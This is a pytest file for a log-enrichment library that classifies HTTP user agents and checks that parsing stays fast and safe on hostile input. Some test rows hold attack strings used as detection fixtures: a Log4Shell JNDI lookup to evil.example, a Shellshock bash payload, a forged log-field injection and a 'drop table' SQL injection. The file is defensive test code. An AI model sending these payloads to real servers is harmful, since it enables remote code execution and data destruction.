"""Who sent a user agent, as far as it says so itself."""

from __future__ import annotations

import re
import sys
import time

import polars as pl
import pytest

from envoylog.enrich import agents
from envoylog.enrich.agents import classify, systems
from envoylog.enrich.companion import Settings
from envoylog.enrich.probes import probes
from envoylog.spec.agents import AGENT_CLASSES, AGENTS

WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
CHROME = WINDOWS + "Chrome/126.0.0.0 Safari/537.36"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)
PIXEL = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Mobile Safari/537.36"
)
TABLET = (
    "Mozilla/5.0 (Linux; Android 13; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)

TABLE = [
    (CHROME, "browser", "Chrome"),
    (CHROME + " Edg/126.0.0.0", "browser", "Edge"),
    (IPHONE, "browser", "Mobile Safari"),
    (PIXEL, "browser", "Chrome Mobile"),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "browser", "Firefox"),
    ("Opera/9.80 (X11; Linux i686) Presto/2.12.388 Version/12.16", "browser", "Opera"),
    ("Shop/5.2 (iPhone; iOS 17.5; Scale/3.00)", "app", "Shop"),
    ("Shop/142 CFNetwork/1494.0.7 Darwin/23.4.0", "app", "Shop"),
    ("Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A)", "app", "Android"),
    ("curl/8.5.0", "library", "curl"),
    ("okhttp/4.12.0", "library", "OkHttp"),
    ("Go-http-client/1.1", "library", "Go"),
    ("python-requests/2.32.3", "library", "python-requests"),
    ("Python/3.12 aiohttp/3.9.5", "library", "aiohttp"),
    ("grpc-go/1.64.0", "library", "gRPC"),
    ("Apache-HttpClient/4.5.14 (Java/17.0.11)", "library", "Apache HttpClient"),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler", "Googlebot"),
    ("Mozilla/5.0 (compatible; ShinyNewBot/0.1; +https://shiny.example)", "crawler", "ShinyNewBot"),
    ("facebookexternalhit/1.1", "crawler", "Facebook"),
    (WINDOWS.replace("Windows NT 10.0; Win64; x64", "X11; Linux x86_64") + "HeadlessChrome/126.0.0.0 Safari/537.36", "crawler", "headless browser"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot", "llm_crawler", "GPTBot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "llm_crawler", "ClaudeBot"),
    ("Mozilla/5.0 (compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)", "llm_crawler", "PerplexityBot"),
    ("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", "llm_crawler", "Bytespider"),
    ("CCBot/2.0 (https://commoncrawl.org/faq/)", "llm_crawler", "CCBot"),
    ("kube-probe/1.29", "probe", "kube-probe"),
    ("ELB-HealthChecker/2.0", "probe", "ELB-HealthChecker"),
    ("GoogleHC/1.0", "probe", "GoogleHC"),
    ("Blackbox Exporter/0.25.0", "probe", "Blackbox Exporter"),
    ("Prometheus/2.53.0", "probe", "Prometheus"),
    ("Envoy/HC", "probe", "Envoy"),
    ("Consul Health Check", "probe", "Consul"),
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "probe", "UptimeRobot"),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "probe", "Pingdom"),
    (CHROME + " DatadogSynthetics", "probe", "Datadog Synthetics"),
    ("Knative-Activator-Probe", "probe", "Knative"),
    ("Amazon-Route53-Health-Check-Service (ref 1; report http://amzn.to/1vsZADi)", "probe", "Route 53"),
    ("Mozilla/5.0 zgrab/0.x", "scanner", "zgrab"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner", "masscan"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner", "Nuclei"),
    ("sqlmap/1.8#stable (https://sqlmap.org)", "scanner", "sqlmap"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "scanner", "Nmap"),
    ("${jndi:ldap://evil.example/a}", "scanner", "Log4Shell"),
    ("() { :; }; /bin/bash -c 'id'", "scanner", "Shellshock"),
    ("istio-proxy/1.22", "mesh", "Istio"),
    ("kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f", "mesh", "Kubernetes"),
    ("envoy", "mesh", "Envoy"),
    ('x" "fake-id" "evil.example" "1.2.3.4:80', "unknown", None),
    ("Acme/1.0", "unknown", None),
    ("Mozilla/5.0", "unknown", None),
    ("", "none", None),
    ("-", "none", None),
    ("  ", "none", None),
    (None, "none", None),
]  # fmt: skip


@pytest.mark.parametrize(("user_agent", "agent_class", "name"), TABLE)
def test_classes(user_agent: str | None, agent_class: str, name: str | None) -> None:
    row = classify(pl.Series([user_agent], dtype=pl.String)).row(0)
    assert row == (user_agent, agent_class, name)


def test_without_the_extra_only_the_names_of_browsers_are_missing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(sys.modules, "ua_parser", None)
    monkeypatch.setitem(sys.modules, "crawleruseragents", None)
    agents._crawlers.cache_clear()
    try:
        found = classify(pl.Series([row[0] for row in TABLE], dtype=pl.String))
        assert found["agent_class"].to_list() == [row[1] for row in TABLE]
        for (user_agent, agent_class, name), named in zip(TABLE, found["agent_name"], strict=True):
            assert named == (None if agent_class == "browser" else name), user_agent
        reason = agents.SYSTEMS_COMPANION.unavailable(Settings())
        assert reason is not None
        assert "pip install 'envoylog[agents]'" in reason
    finally:
        agents._crawlers.cache_clear()


@pytest.mark.parametrize(
    ("user_agent", "version", "system", "device"),
    [
        (CHROME, "126", "Windows", "desktop"),
        (IPHONE, "17", "iOS", "mobile"),
        (PIXEL, "126", "Android", "mobile"),
        (TABLET, "126", "Android", "tablet"),
        ("Shop/5.2.1 (iPhone; iOS 17.5; Scale/3.00)", "5.2", "iOS", "mobile"),
        ("curl/8.5.0", "8.5", None, None),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", None, None, None),
        (None, None, None, None),
    ],
)  # fmt: skip
def test_systems(
    user_agent: str | None, version: str | None, system: str | None, device: str | None
) -> None:
    row = systems(pl.Series([user_agent], dtype=pl.String)).row(0)
    assert row == (user_agent, version, system, device)


def test_the_table_is_sound() -> None:
    assert {agent.agent_class for agent in AGENTS} < set(AGENT_CLASSES)
    for agent in AGENTS:
        re.compile(agent.pattern)
        assert re.match("(docs|source|seen)", agent.evidence), agent
    assert not classify(pl.Series(["x"])).is_empty()


HOSTILE = [
    '"' * 60_000,
    "\x00\x1b[31m\r\n" * 10_000,
    "Mozilla/5.0 (" + "a;" * 30_000,
    "(" * 60_000,
    "bot " * 15_000,
    "Android " * 8_000 + "!",
    "🦊" * 15_000,
    "\udcff".encode("utf-8", "surrogateescape").decode("utf-8", "replace"),
    "';drop table access;--",
]


def test_hostile_agents_are_harmless_and_quick() -> None:
    series = pl.Series([text + str(number) for text in HOSTILE for number in range(50)])
    start = time.process_time()
    found = classify(series)
    systems(series)
    assert time.process_time() - start < 3
    assert found["user_agent"].equals(series)
    assert set(found["agent_class"]) <= set(AGENT_CLASSES)
    assert (found["agent_name"].drop_nulls().str.len_chars() <= 64).all()
    assert not found["agent_name"].drop_nulls().str.contains(r"[\x00-\x1f\x7f]").any()


def test_five_thousand_agents_take_well_under_a_second() -> None:
    chrome = [CHROME.replace("126.0", f"126.{number}") for number in range(2500)]
    bots = [f"Mozilla/5.0 (compatible; Shop{number}bot/1.0)" for number in range(500)]
    others = [f"client-{number}/1.{number}" for number in range(2000)]
    series = pl.Series([*chrome, *bots, *others])
    classify(series.head(10))  # what is read once for all
    systems(series.head(10))
    start = time.process_time()
    classify(series)
    systems(series)
    assert time.process_time() - start < 1


@pytest.mark.parametrize(
    ("user_agent", "health_path", "probe"),
    [
        ("kube-probe/1.29", False, True),
        ("kube-probe/1.29", True, True),
        ("curl/8.5.0", True, True),
        ("curl/8.5.0", False, False),
        (None, True, True),
        (None, False, False),
        (CHROME, True, False),
        ("Mozilla/5.0 (compatible; Googlebot/2.1)", True, False),
        ("Acme/1.0", True, False),
        ("Shop/5.2 (iPhone; iOS 17.5)", True, False),
        ("curl/8.5.0", None, False),
    ],
)
def test_probes(user_agent: str | None, health_path: bool | None, probe: bool) -> None:
    found = probes(
        pl.Series([user_agent, user_agent], dtype=pl.String),
        pl.Series([health_path, health_path], dtype=pl.Boolean),
    )
    assert found.to_list() == [probe, probe]
